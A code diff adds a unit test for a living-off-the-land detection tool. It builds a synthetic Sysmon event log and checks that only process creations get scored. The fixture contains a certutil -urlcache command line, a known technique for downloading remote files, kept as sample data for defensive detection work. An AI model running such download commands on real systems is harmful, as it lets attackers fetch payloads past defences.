@@ -60,3 +60,22 @@ def test_shipped_model_quiet_on_sysmon_modular_benign_lines(shipped: LotlDetecto
 def _save(det: LotlDetector, path: Path) -> Path:
     det.save(path)
     return path
+
+
+def test_evtx_input_scores_process_creations_only(small_detector: LotlDetector, tmp_path: Path) -> None:
+    import datetime as dt
+
+    from tests.fixtures.evtx_writer import WinEvent, write_evtx
+
+    sysmon = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
+    t0 = dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc)
+    evs = [WinEvent(1, *sysmon, "WS1", t0, {"UtcTime": "2026-01-01 10:00:00.000", "ProcessId": "10", "ProcessGuid": "{a}",
+                                            "Image": r"C:\Windows\System32\certutil.exe", "CommandLine": "certutil -urlcache -f http://a/b c",
+                                            "ParentImage": r"C:\Windows\System32\cmd.exe", "ParentProcessGuid": "{p}", "ParentProcessId": "9"}),
+           WinEvent(5, *sysmon, "WS1", t0, {"ProcessId": "10"})]
+    src = tmp_path / "s.evtx"
+    write_evtx(src, evs)
+    summary = run_score("lotl", [src], tmp_path / "o.csv", detector=small_detector)
+    out = pd.read_csv(tmp_path / "o.csv")
+    assert len(out) == 1 and summary.scored == 1 and out["process.name"].iloc[0] == "certutil.exe"
+    assert out["process.parent.name"].iloc[0] == "cmd.exe" and 0 <= out["score"].iloc[0] <= 1
